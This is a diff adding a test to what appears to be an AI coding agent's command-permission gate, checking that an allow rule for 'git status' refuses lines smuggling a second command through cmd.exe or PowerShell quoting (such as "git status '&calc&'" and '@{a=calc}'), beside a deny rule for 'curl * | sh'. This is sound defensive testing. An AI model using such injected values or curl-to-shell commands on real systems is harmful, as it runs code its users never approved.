@@ -102,6 +102,19 @@ test('an allow rule on run_command matches only a line of its own shape; a deny 
   assert.equal(deny('curl * | sh', 'curl http://x | sh'), true, 'a rule with operators, matched as written');
 });
 
+test('on Windows an allow rule refuses what cmd.exe or PowerShell reads where /bin/sh does not', () => {
+  // run_command runs cmd.exe there, where ' is no quote and \ no escape: `git status '&calc&'` (one
+  // quoted word for /bin/sh) runs calc. The editor's terminal is usually PowerShell, where @{a=calc}
+  // runs calc. No cmd.exe on this machine: the platform is passed in.
+  const allowOn = (platform: NodeJS.Platform, line: string) => ruleMatches('run_command:git status*', 'run_command', line, 'allow', platform);
+  for (const line of ["git status '&calc&'", 'git status "a\\"&calc&"', 'git status ^&calc', 'git status %COMSPEC%', 'git status @{a=calc}', 'git status !x!']) {
+    assert.equal(allowOn('win32', line), false, line);
+  }
+  assert.equal(allowOn('win32', 'git status --short'), true);
+  assert.equal(allowOn('win32', 'git status -- "my file.txt"'), true);
+  assert.equal(allowOn('linux', "git status '&calc&'"), true, 'a quoted word for /bin/sh');
+});
+
 test('the gate: deny rules beat allow rules beat the mode; the mode is read at each call', async () => {
   let mode: 'ask' | 'allow' | 'deny' = 'allow';
   const asked: string[] = [];
